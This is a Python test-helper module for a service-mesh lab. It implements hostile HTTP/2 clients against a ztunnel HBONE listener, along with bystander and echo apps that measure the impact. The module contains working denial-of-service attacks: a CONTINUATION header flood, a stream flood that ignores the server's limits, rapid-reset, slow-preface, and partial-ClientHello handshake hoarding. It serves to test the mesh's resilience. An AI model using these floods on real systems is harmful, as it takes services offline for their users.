"""Attackers, bystanders and test apps for tests/lab/test_hbone_hostile.py, run inside lab pods:

    ambit lab exec NS/POD -- python -m tests.lab.hbone_tools MODE [options]

Each mode prints one JSON line with what it saw. Attackers speak to a ztunnel's HBONE listener
(podIP:15008) with a real mesh certificate (a JSON file written by the test: identity, key, chain,
trust bundle) and use `h2` or raw frames, as a hostile node would.
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import http.client
import json
import os
import socket
import ssl
import statistics
import sys
import threading
import time
from typing import Any

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

from ambit import rlimits
from ambit.dataplane import tls
from ambit.dataplane.hbone import frames as f
from ambit.dataplane.identity import WorkloadCertificate

HBONE = 15008


def out(**kw: Any) -> None:
    print(json.dumps(kw), flush=True)


# --- TLS + h2 as a hostile client ------------------------------------------------------------------

def client_ctx(path: str) -> ssl.SSLContext:
    d = json.loads(open(path).read())
    cert = WorkloadCertificate.from_pems(d["identity"], d["key"].encode(), d["chain"], d["bundle"])
    return tls.client_context(cert)


def dial(ctx: ssl.SSLContext, ip: str, port: int = HBONE, timeout: float = 10) -> ssl.SSLSocket:
    raw = socket.create_connection((ip, port), timeout=timeout)
    s = ctx.wrap_socket(raw, server_hostname=ip)
    s.settimeout(timeout)
    return s


class H2:
    """A blocking h2 client on a TLS socket that ignores the server's stream limit on request."""

    def __init__(self, sock: ssl.SSLSocket, ignore_limits: bool = False) -> None:
        self.sock = sock
        self.c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.c.initiate_connection()
        self.flush()
        self.events: list[h2.events.Event] = []
        self.goaway: h2.events.ConnectionTerminated | None = None
        self.closed = False
        self.read_until(lambda: any(isinstance(e, h2.events.RemoteSettingsChanged) for e in self.events), 10)
        if ignore_limits:
            self.c.remote_settings = h2.settings.Settings(client=False)   # send as if unlimited

    def flush(self) -> None:
        data = self.c.data_to_send()
        if data:
            self.sock.sendall(data)

    def read_some(self, timeout: float) -> bool:
        self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(65536)
        except (TimeoutError, ssl.SSLWantReadError):
            return True
        except (ConnectionError, ssl.SSLError, OSError):
            self.closed = True
            return False
        if not data:
            self.closed = True
            return False
        try:
            evs = self.c.receive_data(data)
        except h2.exceptions.ProtocolError:
            evs = []
        for e in evs:
            if isinstance(e, h2.events.ConnectionTerminated):
                self.goaway = e
        self.events += evs
        try:
            self.flush()
        except OSError:
            self.closed = True
        return True

    def read_until(self, cond, timeout: float) -> bool:
        end = time.monotonic() + timeout
        while not cond():
            left = end - time.monotonic()
            if left <= 0 or self.closed:
                return cond()
            self.read_some(min(left, 0.5))
        return True

    def connect(self, authority: str) -> int:
        sid = self.c.get_next_available_stream_id()
        self.c.send_headers(sid, [(":method", "CONNECT"), (":authority", authority)])
        return sid

    def statuses(self) -> dict[int, int]:
        return {e.stream_id: int(dict(e.headers)[":status"]) for e in self.events
                if isinstance(e, h2.events.ResponseReceived)}

    def resets(self) -> dict[int, int]:
        return {e.stream_id: int(e.error_code) for e in self.events if isinstance(e, h2.events.StreamReset)}


def goaway_info(c: H2) -> dict[str, Any]:
    g = c.goaway
    return {"goaway": int(g.error_code) if g else None, "closed": c.closed}


# --- attacks ------------------------------------------------------------------------------------------

def connect_status(a: argparse.Namespace) -> None:
    """One CONNECT per authority; the status (or reset code) of each: positive control and self-loop."""
    c = H2(dial(client_ctx(a.cert), a.ip))
    res = {}
    for auth in a.authority:
        sid = c.connect(auth)
        c.flush()
        c.read_until(lambda s=sid: s in c.statuses() or s in c.resets(), 10)
        res[auth] = c.statuses().get(sid, -c.resets().get(sid, 999))
    out(statuses=res, **goaway_info(c))


def header_flood(a: argparse.Namespace) -> None:
    """HEADERS without END_HEADERS, then CONTINUATION after CONTINUATION (up to `--mib` MiB)."""
    c = H2(dial(client_ctx(a.cert), a.ip))
    t0 = time.monotonic()
    sent = 0
    chunk = bytes(16 * 1024)
    try:
        c.sock.sendall(f.pack_header(len(chunk), f.HEADERS, 0, 1) + chunk)
        sent += len(chunk)
        while sent < a.mib * 1024 * 1024:
            c.sock.sendall(f.pack_header(len(chunk), f.CONTINUATION, 0, 1) + chunk)
            sent += len(chunk)
    except OSError:
        pass
    c.read_until(lambda: c.goaway is not None or c.closed, 10)
    out(sent=sent, seconds=round(time.monotonic() - t0, 3), **goaway_info(c))


def stream_flood(a: argparse.Namespace) -> None:
    """`--n` CONNECTs at once, ignoring the advertised limit, and hold them `--hold` s (printing what
    was admitted); then `--more` CONNECTs on top, and close."""
    c = H2(dial(client_ctx(a.cert), a.ip), ignore_limits=True)

    def burst(n: int) -> list[int]:
        sids = [c.connect(a.authority) for _ in range(n)]
        c.flush()
        c.read_until(lambda: c.closed or all(s in c.statuses() or s in c.resets() for s in sids), 30)
        return sids

    def tally(sids: list[int]) -> dict[str, int]:
        st, rs = c.statuses(), c.resets()
        ok = sum(1 for s in sids if st.get(s) == 200)
        refused = sum(1 for s in sids if rs.get(s) == f.REFUSED_STREAM and s not in st)
        return {"ok": ok, "refused": refused, "other": len(sids) - ok - refused}

    first = burst(a.n)
    print(json.dumps({"phase": "held", **tally(first), **goaway_info(c)}), flush=True)
    c.read_until(lambda: c.closed, a.hold)
    more = burst(a.more) if a.more and not c.closed else []
    c.read_until(lambda: c.goaway is not None or c.closed, 5 if more else 0)
    c.sock.close()
    out(first=tally(first), more=tally(more), **goaway_info(c))


def rapid_reset(a: argparse.Namespace) -> None:
    """CONNECT + RST_STREAM(CANCEL) pairs as fast as possible, until GOAWAY or `--max` pairs."""
    c = H2(dial(client_ctx(a.cert), a.ip), ignore_limits=True)
    t0 = time.monotonic()
    pairs = 0
    try:
        while pairs < a.max and c.goaway is None and not c.closed:
            for _ in range(50):
                sid = c.connect(a.authority)
                c.c.reset_stream(sid, f.CANCEL)
                pairs += 1
            c.flush()
            c.read_some(0.0001)
    except (OSError, h2.exceptions.ProtocolError):
        pass
    c.read_until(lambda: c.goaway is not None or c.closed, 10)
    out(pairs=pairs, seconds=round(time.monotonic() - t0, 3), **goaway_info(c))


def connect_then_reset(a: argparse.Namespace) -> None:
    """`--n` CONNECTs, wait `--wait` s (ztunnel is connecting to the app meanwhile), then reset all."""
    c = H2(dial(client_ctx(a.cert), a.ip))
    sids = [c.connect(a.authority) for _ in range(a.n)]
    c.flush()
    c.read_until(lambda: False, a.wait)
    answered = {s: c.statuses()[s] for s in sids if s in c.statuses()}
    for s in sids:
        c.c.reset_stream(s, f.CANCEL)
    c.flush()
    c.read_until(lambda: False, 1)
    out(answered=len(answered), reset=len(sids), **goaway_info(c))


def no_accept_server(a: argparse.Namespace) -> None:
    """Listen on `--port` with a backlog of 1 and never accept: once the queue is full, SYNs are
    dropped and connects to it hang (an app that is still being connected to)."""
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("0.0.0.0", a.port))
    srv.listen(1)
    print("ready", flush=True)
    while True:
        time.sleep(3600)


def slow_preface(a: argparse.Namespace) -> None:
    """Complete TLS, never send the HTTP/2 preface: how long until ztunnel hangs up?"""
    s = dial(client_ctx(a.cert), a.ip)
    peer = s.getpeercert(binary_form=True) is not None
    t0 = time.monotonic()
    s.settimeout(a.wait)
    closed = False
    try:
        while True:
            if not s.recv(65536):
                closed = True
                break
    except TimeoutError:
        pass
    except (ConnectionError, ssl.SSLError, OSError):
        closed = True
    out(handshake=peer, closed=closed, seconds=round(time.monotonic() - t0, 2))


# A TLS record header and the first bytes of a ClientHello: the server waits for the rest.
PARTIAL_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01"


def handshake_hoard(a: argparse.Namespace) -> None:
    """`--n` TCP connections to :15008 that never send a ClientHello (`--partial`: only its first
    bytes): when are they all closed, and how many are still open after 2 s?"""
    socks = []
    for _ in range(a.n):
        s = socket.create_connection((a.ip, HBONE), timeout=5)
        if a.partial:
            s.sendall(PARTIAL_HELLO)
        s.setblocking(False)
        socks.append(s)
    t0 = time.monotonic()
    opened = len(socks)
    open_socks = set(socks)
    open_at_2s = None
    if a.partial:
        print(json.dumps({"phase": "sent"}), flush=True)
    while open_socks and time.monotonic() - t0 < a.wait:
        if open_at_2s is None and time.monotonic() - t0 >= 2:
            open_at_2s = len(open_socks)
        for s in list(open_socks):
            try:
                if s.recv(1) == b"":
                    open_socks.discard(s)
            except BlockingIOError:
                pass
            except OSError:
                open_socks.discard(s)
        time.sleep(0.2)
    for s in socks:
        s.close()
    if open_at_2s is None:          # all closed before then, or --wait was shorter
        open_at_2s = len(open_socks)
    out(opened=opened, still_open=len(open_socks), seconds=round(time.monotonic() - t0, 2), open_at_2s=open_at_2s)


# --- bystander and apps ----------------------------------------------------------------------------------

def bystander(a: argparse.Namespace) -> None:
    """GET `--url` every `--interval` s (a fresh connection each); success and p99. It runs for
    `--duration` s, or, with `--stop-file`, until that file exists and it has made `--min-requests`
    requests (`--duration` then only bounds it): the attack it watches decides how long it runs."""
    host, _, port = a.target.rpartition(":")
    lat: list[float] = []
    fails = 0
    errors: collections.Counter[str] = collections.Counter()
    end = time.monotonic() + a.duration

    def done() -> bool:
        return (a.stop_file is not None and len(lat) + fails >= a.min_requests
                and os.path.exists(a.stop_file))
    while time.monotonic() < end and not done():
        t0 = time.monotonic()
        try:
            conn = http.client.HTTPConnection(host, int(port), timeout=2)
            conn.request("GET", "/")
            ok = conn.getresponse().status == 200
            conn.close()
        except Exception as e:  # noqa: BLE001 - every failure counts
            ok = False
            errors[type(e).__name__] += 1
        dt = time.monotonic() - t0
        if ok:
            lat.append(dt)
        else:
            fails += 1
        time.sleep(max(0.0, a.interval - dt))
    n = len(lat) + fails
    p99 = statistics.quantiles(lat, n=100)[98] if len(lat) >= 2 else (lat[0] if lat else None)
    out(n=n, ok=len(lat), success=len(lat) / n if n else 0, p99=p99, max=max(lat) if lat else None,
        errors=dict(errors))


def echo_server(a: argparse.Namespace) -> None:
    """TCP echo on `--port` (asyncio; thousands of connections)."""
    async def handle(r: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
        try:
            while data := await r.read(65536):
                w.write(data)
                await w.drain()
        except ConnectionError:
            pass
        finally:
            w.close()

    async def main() -> None:
        srv = await asyncio.start_server(handle, "0.0.0.0", a.port, backlog=4096)
        print("ready", flush=True)
        await srv.serve_forever()
    asyncio.run(main())


def slow_server(a: argparse.Namespace) -> None:
    """Accept on `--port` and read 1 byte per second from each connection (a stalled receiver)."""
    srv = socket.create_server(("0.0.0.0", a.port), backlog=128)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)

    def serve(c: socket.socket) -> None:
        with c:
            while c.recv(1):
                time.sleep(1)
    print("ready", flush=True)
    while True:
        c, _ = srv.accept()
        threading.Thread(target=serve, args=(c,), daemon=True).start()


def slow_senders(a: argparse.Namespace) -> None:
    """`--n` connections that each send as fast as their (stalled) receiver lets them, for `--duration` s."""
    host, _, port = a.target.rpartition(":")
    socks = [socket.create_connection((host, int(port)), timeout=10) for _ in range(a.n)]
    sent = [0] * a.n

    def pump(i: int, s: socket.socket) -> None:
        s.settimeout(0.5)
        buf = bytes(65536)
        end = time.monotonic() + a.duration
        while time.monotonic() < end:
            try:
                sent[i] += s.send(buf)
            except TimeoutError:
                continue
            except OSError:
                return
    ts = [threading.Thread(target=pump, args=(i, s), daemon=True) for i, s in enumerate(socks)]
    for t in ts:
        t.start()
    print(json.dumps({"phase": "sending"}), flush=True)
    for t in ts:
        t.join()
    for s in socks:
        s.close()
    out(sent=sent)


def hold(a: argparse.Namespace) -> None:
    """Open `--n` connections to `--target` (a TCP echo), verify a unique payload on each, hold them
    all open `--hold` s (and then until `--until-file` exists, if given: the caller decides how long
    they sit idle and measures meanwhile), verify again, close. Counts resets and mismatches.
    `--probe K`: K new connections, one after another, before the `--n` are opened and again while
    they are held (after the idle period), each timed from connect() to its echo: what a new
    connection costs beside thousands held (`probe_before_ms`, `probe_held_ms`, milliseconds)."""
    host, _, port = a.target.rpartition(":")

    async def probe(tag: str, stats: collections.Counter) -> list[float]:
        ms = []
        for i in range(a.probe):
            payload = f"probe-{tag}-{i}:".encode() + os.urandom(8).hex().encode()
            t0 = time.perf_counter()
            try:
                r, w = await asyncio.wait_for(asyncio.open_connection(host, int(port)), 30)
                w.write(payload)
                got = await asyncio.wait_for(r.readexactly(len(payload)), 30)
            except (OSError, asyncio.IncompleteReadError, TimeoutError) as e:
                stats[f"probe_error:{type(e).__name__}"] += 1
                continue
            ms.append(round((time.perf_counter() - t0) * 1000, 2))
            if got != payload:
                stats["probe_mismatch"] += 1
            w.close()
        return ms

    async def main() -> dict[str, Any]:
        sem = asyncio.Semaphore(a.parallel)
        stats = collections.Counter()
        conns: list[tuple[asyncio.StreamReader, asyncio.StreamWriter, bytes]] = []
        before = await probe("before", stats)

        async def one(i: int) -> None:
            async with sem:
                payload = f"{i:08d}:".encode() + os.urandom(24).hex().encode()
                try:
                    r, w = await asyncio.wait_for(asyncio.open_connection(host, int(port)), 30)
                    w.write(payload)
                    got = await asyncio.wait_for(r.readexactly(len(payload)), 30)
                except ConnectionResetError:
                    stats["resets"] += 1
                    return
                except (OSError, asyncio.IncompleteReadError, TimeoutError) as e:
                    stats[f"error:{type(e).__name__}"] += 1
                    return
                stats["verified" if got == payload else "mismatch"] += 1
                conns.append((r, w, payload))

        t0 = time.monotonic()
        await asyncio.gather(*(one(i) for i in range(a.n)))
        stats["open_seconds"] = round(time.monotonic() - t0, 1)
        stats["held"] = len(conns)
        print(json.dumps({"phase": "held", "held": len(conns)}), flush=True)
        await asyncio.sleep(a.hold)
        while a.until_file and not os.path.exists(a.until_file):
            await asyncio.sleep(0.1)
        held = await probe("held", stats)

        async def again(r: asyncio.StreamReader, w: asyncio.StreamWriter, payload: bytes) -> None:
            async with sem:
                try:
                    w.write(payload[::-1])
                    got = await asyncio.wait_for(r.readexactly(len(payload)), 30)
                    stats["reverified" if got == payload[::-1] else "mismatch"] += 1
                except ConnectionResetError:
                    stats["resets"] += 1
                except (OSError, asyncio.IncompleteReadError, TimeoutError) as e:
                    stats[f"error2:{type(e).__name__}"] += 1
                finally:
                    w.close()
        await asyncio.gather(*(again(*c) for c in conns))
        return {**stats, "probe_before_ms": before, "probe_held_ms": held}
    out(**asyncio.run(main()))


def main(argv: list[str] | None = None) -> None:
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="mode", required=True)

    def add(name: str, fn, *opts: tuple[str, dict[str, Any]]) -> None:
        p = sub.add_parser(name)
        p.set_defaults(fn=fn)
        for flag, kw in opts:
            p.add_argument(flag, **kw)

    cert = ("--cert", {"required": True})
    ip = ("--ip", {"required": True})
    add("connect", connect_status, cert, ip, ("--authority", {"action": "append", "required": True}))
    add("header-flood", header_flood, cert, ip, ("--mib", {"type": int, "default": 60}))
    add("stream-flood", stream_flood, cert, ip, ("--authority", {"required": True}),
        ("--n", {"type": int, "default": 300}), ("--hold", {"type": float, "default": 3}),
        ("--more", {"type": int, "default": 900}))
    add("rapid-reset", rapid_reset, cert, ip, ("--authority", {"required": True}),
        ("--max", {"type": int, "default": 50_000}))
    add("connect-then-reset", connect_then_reset, cert, ip, ("--authority", {"required": True}),
        ("--n", {"type": int, "default": 20}), ("--wait", {"type": float, "default": 2}))
    add("no-accept-server", no_accept_server, ("--port", {"type": int, "required": True}))
    add("slow-preface", slow_preface, cert, ip, ("--wait", {"type": float, "default": 30}))
    add("handshake-hoard", handshake_hoard, ip, ("--n", {"type": int, "default": 200}),
        ("--wait", {"type": float, "default": 30}), ("--partial", {"action": "store_true"}))
    add("bystander", bystander, ("--target", {"required": True}), ("--duration", {"type": float, "default": 15}),
        ("--interval", {"type": float, "default": 0.05}), ("--stop-file", {"default": None}),
        ("--min-requests", {"type": int, "default": 200}))
    add("echo-server", echo_server, ("--port", {"type": int, "required": True}))
    add("slow-server", slow_server, ("--port", {"type": int, "required": True}))
    add("slow-senders", slow_senders, ("--target", {"required": True}), ("--n", {"type": int, "default": 5}),
        ("--duration", {"type": float, "default": 20}))
    add("hold", hold, ("--target", {"required": True}), ("--n", {"type": int, "default": 10_000}),
        ("--hold", {"type": float, "default": 5}), ("--parallel", {"type": int, "default": 500}),
        ("--until-file", {"default": None}), ("--probe", {"type": int, "default": 0}))
    a = ap.parse_args(argv)
    # `hold` and `echo-server` each keep thousands of sockets; a shell's soft limit of 1,024 (below a
    # far higher hard one) stopped them at 1,000, as it would any process that does not raise it.
    rlimits.raise_nofile()
    a.fn(a)


if __name__ == "__main__":
    sys.exit(main())
